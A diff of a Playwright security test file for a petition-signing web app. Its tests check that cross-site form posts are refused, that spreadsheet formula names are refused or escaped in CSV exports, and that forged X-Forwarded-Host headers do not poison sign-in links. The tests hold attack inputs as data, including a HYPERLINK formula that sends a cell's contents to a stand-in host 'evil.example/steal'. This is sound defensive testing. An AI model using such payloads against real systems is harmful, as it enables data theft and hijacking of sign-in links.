@@ -1,9 +1,9 @@
-import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
-import { DEMO_MULTI, DEMO_ORG, DEMO_OWNER, DEMO_SLUG, fromAddress, mailTo, signInAs, uniqueEmail, waitForMail } from "./fixtures";
+import { expect, type APIRequestContext, type Page } from "@playwright/test";
+import { fromAddress, mailTo, signInAs, test, uniqueEmail, waitForMail, waitForQueueIdle } from "./fixtures";
 
 /** The signing form's fields as the browser would post them without JavaScript (action id included). */
-async function signingFormFields(page: Page, email: string): Promise<Record<string, string>> {
-  await page.goto(`/en/campaigns/${DEMO_SLUG}/sign`);
+async function signingFormFields(page: Page, slug: string, email: string): Promise<Record<string, string>> {
+  await page.goto(`/en/campaigns/${slug}/sign`);
   await page.getByLabel("Full name").fill("Forged Signer");
   await page.getByLabel("Email address").fill(email);
   await page.getByLabel("I am a Canadian citizen living abroad").check();
@@ -14,27 +14,29 @@ async function signingFormFields(page: Page, email: string): Promise<Record<stri
   });
 }
 
-async function postForm(request: APIRequestContext, fields: Record<string, string>, origin: string) {
-  return request.post(`/en/campaigns/${DEMO_SLUG}/sign`, { multipart: fields, headers: { origin, "x-forwarded-for": "198.18.90.1" }, maxRedirects: 0 });
+async function postForm(request: APIRequestContext, slug: string, fields: Record<string, string>, origin: string) {
+  return request.post(`/en/campaigns/${slug}/sign`, { multipart: fields, headers: { origin, "x-forwarded-for": "198.18.90.1" }, maxRedirects: 0 });
 }
 
-test("a page on another site submits the signing form (CSRF): the action is refused and nobody is signed up", async ({ page, request, baseURL }) => {
+test("a page on another site submits the signing form (CSRF): the action is refused and nobody is signed up", async ({ page, request, baseURL, world }) => {
+  const slug = world.campaignSlug;
   const victim = uniqueEmail("csrf");
-  const forged = await postForm(request, await signingFormFields(page, victim), "https://evil.example");
+  const forged = await postForm(request, slug, await signingFormFields(page, slug, victim), "https://evil.example");
   expect(forged.status()).not.toBe(303);
   expect(forged.headers()["location"] ?? "").not.toContain("check-email");
   // The same post from the site itself works: the forged one failed only because of its origin.
   const control = uniqueEmail("csrf-control");
-  const genuine = await postForm(request, await signingFormFields(page, control), baseURL!);
+  const genuine = await postForm(request, slug, await signingFormFields(page, slug, control), baseURL!);
   expect(genuine.status()).toBe(303);
   expect(genuine.headers()["location"]).toContain("/check-email");
-  await waitForMail(request, control);
+  expect(await waitForMail(request, control)).toHaveLength(1);
+  await waitForQueueIdle(request);
   expect(await mailTo(request, victim)).toHaveLength(0);
 });
 
-test("a name that a spreadsheet would run as a formula is refused at signing, and a formula in a comment reaches the export as text", async ({ page, request }) => {
+test("a name that a spreadsheet would run as a formula is refused at signing, and a formula in a comment reaches the export as text", async ({ page, request, world }) => {
   await fromAddress(page);
-  await page.goto(`/en/campaigns/${DEMO_SLUG}/sign`);
+  await page.goto(`/en/campaigns/${world.campaignSlug}/sign`);
   await page.getByLabel("Full name").fill('=HYPERLINK("https://evil.example","x")');
   const email = uniqueEmail("formula");
   await page.getByLabel("Email address").fill(email);
@@ -51,20 +53,23 @@ test("a name that a spreadsheet would run as a formula is refused at signing, an
   await page.getByRole("button", { name: "Sign" }).click();
   await expect(page.getByRole("heading", { name: "Check your email" })).toBeVisible();
 
-  await signInAs(page, request, DEMO_OWNER);
-  await page.getByRole("link", { name: /Canadian sensors, foreign wars/ }).click();
+  await signInAs(page, request, world.owner);
+  await page.getByRole("link", { name: world.campaignTitle }).click();
   const campaignId = /campaigns\/([0-9a-f-]{36})/.exec(page.url())![1];
-  const csv = await (await page.request.get(`/api/org/${DEMO_ORG}/campaigns/${campaignId}/export?status=all`)).text();
+  const csv = await (await page.request.get(`/api/org/${world.orgSlug}/campaigns/${campaignId}/export?status=all`)).text();
+  // Her row is the campaign's only one.
+  expect(csv.trim().split("\r\n")).toHaveLength(2);
   const line = csv.split("\r\n").find((l) => l.includes(email))!;
   expect(line).toContain(`"'=HYPERLINK(""https://evil.example/steal?""&A1,""Click"")"`);
   expect(line).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
 });
 
-test("a sign-in request with a forged Host (X-Forwarded-Host) still mails a link to this site, so the organizer's token never reaches the forger", async ({ page, request, baseURL }) => {
+test("a sign-in request with a forged Host (X-Forwarded-Host) still mails a link to this site, so the organizer's token never reaches the forger", async ({ page, request, baseURL, world }) => {
+  const organizer = world.owner;
   // The attacker asks for a link for a real organizer, claiming to be evil.example; the origin
   // matches the forged host, so the framework's same-origin check alone would let it through.
   await page.goto("/en/org/sign-in");
-  await page.getByLabel("Email address").fill(DEMO_MULTI);
+  await page.getByLabel("Email address").fill(organizer);
   const fields = await page
     .locator("form")
     .filter({ has: page.getByLabel("Email address") })
@@ -73,13 +78,14 @@ test("a sign-in request with a forged Host (X-Forwarded-Host) still mails a link
       new FormData(form as HTMLFormElement).forEach((v, k) => (out[k] = String(v)));
       return out;
     });
-  const before = (await mailTo(request, DEMO_MULTI)).length;
+  expect(await mailTo(request, organizer)).toHaveLength(0);
   await request.post("/en/org/sign-in", {
     multipart: fields,
     headers: { origin: "http://evil.example", "x-forwarded-host": "evil.example", "x-forwarded-proto": "http" },
     maxRedirects: 0,
   });
-  const mails = await waitForMail(request, DEMO_MULTI, before + 1);
+  const mails = await waitForMail(request, organizer, 1);
+  expect(mails).toHaveLength(1);
   const text = mails[0].text ?? "";
   expect(text).not.toContain("evil.example");
   const links = text.match(/https?:\/\/[^\s]+/g) ?? [];
